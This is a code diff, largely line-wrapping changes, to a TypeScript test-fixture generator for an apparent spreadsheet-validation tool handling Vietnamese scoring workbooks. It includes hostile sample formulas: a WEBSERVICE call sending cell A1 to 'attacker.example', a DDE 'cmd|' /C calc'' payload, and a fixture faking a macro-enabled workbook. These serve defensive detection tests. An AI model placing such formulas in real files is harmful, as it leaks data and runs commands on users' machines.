@@ -115,7 +115,14 @@ function totalsOf(scores: UnitScores[], names: string[] = UNITS): Record<string,
   return out;
 }
 
-const CLEAN_TABLE: ExpectedTable = { sheet: SHEET, layout: 'consolidated', range: BASE_RANGE, criteria: criteria.nodes.length, units: UNITS, year: 2025 };
+const CLEAN_TABLE: ExpectedTable = {
+  sheet: SHEET,
+  layout: 'consolidated',
+  range: BASE_RANGE,
+  criteria: criteria.nodes.length,
+  units: UNITS,
+  year: 2025,
+};
 
 // ---------------------------------------------------------------------------------------------
 // Zip-level editing of a built workbook.
@@ -198,8 +205,14 @@ add(
   async () =>
     writeZip([
       { name: 'mimetype', data: enc('application/vnd.oasis.opendocument.spreadsheet'), store: true },
-      { name: 'content.xml', data: enc('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>') },
-      { name: 'META-INF/manifest.xml', data: enc('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>') },
+      {
+        name: 'content.xml',
+        data: enc('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
+      },
+      {
+        name: 'META-INF/manifest.xml',
+        data: enc('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
+      },
     ]),
 );
 
@@ -264,7 +277,10 @@ function biff8(): Uint8Array {
 add(
   {
     file: 'legacy.xls',
-    what: { vi: 'Tệp Excel 97–2003 (.xls, BIFF8 trong tệp CFB, luồng "Workbook").', en: 'An Excel 97–2003 file (.xls: BIFF8 in a CFB "Workbook" stream).' },
+    what: {
+      vi: 'Tệp Excel 97–2003 (.xls, BIFF8 trong tệp CFB, luồng "Workbook").',
+      en: 'An Excel 97–2003 file (.xls: BIFF8 in a CFB "Workbook" stream).',
+    },
     readError: 'legacy-xls',
     cli: { validate: 2, computeOut: 'refused' },
   },
@@ -297,7 +313,9 @@ async function withSheetPart(part: { bytes: Uint8Array; size: number; crc: numbe
   const bytes = await stableBytes(wb);
   return writeZip(
     readZip(bytes).map((e) =>
-      e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, deflated: part, declaredSize } : { name: e.name, data: e.data, store: e.name.endsWith('/') },
+      e.name === 'xl/worksheets/sheet1.xml'
+        ? { name: e.name, deflated: part, declaredSize }
+        : { name: e.name, data: e.data, store: e.name.endsWith('/') },
     ),
   );
 }
@@ -427,8 +445,14 @@ add(
     xlsx(buildConsolidated(baseOptions()), (parts) => {
       replaceIn(parts, '[Content_Types].xml', (xml) =>
         xml
-          .replace('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
-          .replace('<Default Extension="xml"', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"'),
+          .replace(
+            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
+            'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
+          )
+          .replace(
+            '<Default Extension="xml"',
+            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"',
+          ),
       );
       replaceIn(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
         xml.replace(
@@ -540,7 +564,12 @@ add(
       vi: 'Mã tiêu chí có khoảng trắng không ngắt (NBSP), ký tự độ rộng 0 (ZWSP, ZWJ, BOM) do sao chép từ Word/PDF; tiêu đề cột cũng có NBSP.',
       en: 'Criterion codes with non-breaking and zero-width spaces (NBSP, ZWSP, ZWJ, BOM) pasted from Word/PDF; NBSP in a header too.',
     },
-    engine: { tables: [CLEAN_TABLE], findings: [], absentCodes: ['code/orphan', 'code/duplicate', 'code/misplaced'], totals: totalsOf(SCORES) },
+    engine: {
+      tables: [CLEAN_TABLE],
+      findings: [],
+      absentCodes: ['code/orphan', 'code/duplicate', 'code/misplaced'],
+      totals: totalsOf(SCORES),
+    },
     cli: { validate: 0, computeOut: 'written' },
   },
   async () => {
@@ -574,7 +603,10 @@ add(
       ws.getCell(address).value = { formula: `[1]'Tổng hợp'!${address}`, result: v } as ExcelJS.CellFormulaValue;
     }
     const note = L.lastCol + 1;
-    ws.getCell(L.rows.get('1.1.1')!, note).value = { formula: '_xlfn.WEBSERVICE("https://attacker.example/?q="&A1)', result: { error: '#VALUE!' } } as ExcelJS.CellFormulaValue;
+    ws.getCell(L.rows.get('1.1.1')!, note).value = {
+      formula: '_xlfn.WEBSERVICE("https://attacker.example/?q="&A1)',
+      result: { error: '#VALUE!' },
+    } as ExcelJS.CellFormulaValue;
     ws.getCell(L.rows.get('1.1.2')!, note).value = { formula: "cmd|' /C calc'!A0", result: { error: '#REF!' } } as ExcelJS.CellFormulaValue;
     ws.getCell(L.rows.get('1.2')!, note).value = { formula: '[2]Sheet1!A1', result: 'ngoài' } as ExcelJS.CellFormulaValue;
     return xlsx(wb, (parts) => {
@@ -609,7 +641,10 @@ add(
         ),
       );
       replaceIn(parts, 'xl/workbook.xml', (xml) =>
-        xml.replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rId91"/><externalReference r:id="rId92"/></externalReferences>'),
+        xml.replace(
+          '</sheets>',
+          '</sheets><externalReferences><externalReference r:id="rId91"/><externalReference r:id="rId92"/></externalReferences>',
+        ),
       );
       return [
         ...parts.map((e) => ({ ...e, store: e.name.endsWith('/') })),
@@ -776,7 +811,15 @@ add(
   async () => {
     const wb = buildConsolidated(baseOptions());
     const ws = wb.getWorksheet(SHEET)!;
-    const other = buildConsolidated({ year: 2024, units: UNITS_2024, criteria, scores: SCORES_2024, codeStyle: 'dotted', parentsAs: 'formula', rankRow: false });
+    const other = buildConsolidated({
+      year: 2024,
+      units: UNITS_2024,
+      criteria,
+      scores: SCORES_2024,
+      codeStyle: 'dotted',
+      parentsAs: 'formula',
+      rankRow: false,
+    });
     const src = other.getWorksheet(SHEET)!;
     // Rows 3 onwards (the title, header and table; the agency lines stay with the first table).
     src.eachRow((row, r) => {
@@ -791,7 +834,9 @@ add(
         target.style = cell.style;
       });
     });
-    for (const m of Object.values((src as unknown as { _merges: Record<string, { top: number; left: number; bottom: number; right: number }> })._merges)) {
+    for (const m of Object.values(
+      (src as unknown as { _merges: Record<string, { top: number; left: number; bottom: number; right: number }> })._merges,
+    )) {
       if (m.top < L2.titleRow) continue;
       ws.mergeCells(m.top + OFFSET, m.left, m.bottom + OFFSET, m.right);
     }
@@ -870,7 +915,10 @@ add(
     note: 'An unfilled unit is neither scored nor ranked; "Không áp dụng" is a warning (how it counts is set per criteria set).',
   },
   async () => {
-    const half: UnitScores = { unit: UNITS[1], leaves: Object.fromEntries(Object.entries(SCORES[1].leaves).filter(([k]) => Number(k.split('.')[0]) <= 4)) };
+    const half: UnitScores = {
+      unit: UNITS[1],
+      leaves: Object.fromEntries(Object.entries(SCORES[1].leaves).filter(([k]) => Number(k.split('.')[0]) <= 4)),
+    };
     const none: UnitScores = { unit: UNITS[2], leaves: {} };
     const na: UnitScores = { unit: UNITS[3], leaves: { ...SCORES[3].leaves } };
     delete na.leaves['2.2'];
@@ -981,7 +1029,7 @@ if (require.main === module) {
       process.exitCode = code;
     },
     (e: unknown) => {
-      process.stderr.write(`${e instanceof Error ? e.stack ?? e.message : String(e)}\n`);
+      process.stderr.write(`${e instanceof Error ? (e.stack ?? e.message) : String(e)}\n`);
       process.exitCode = 2;
     },
   );
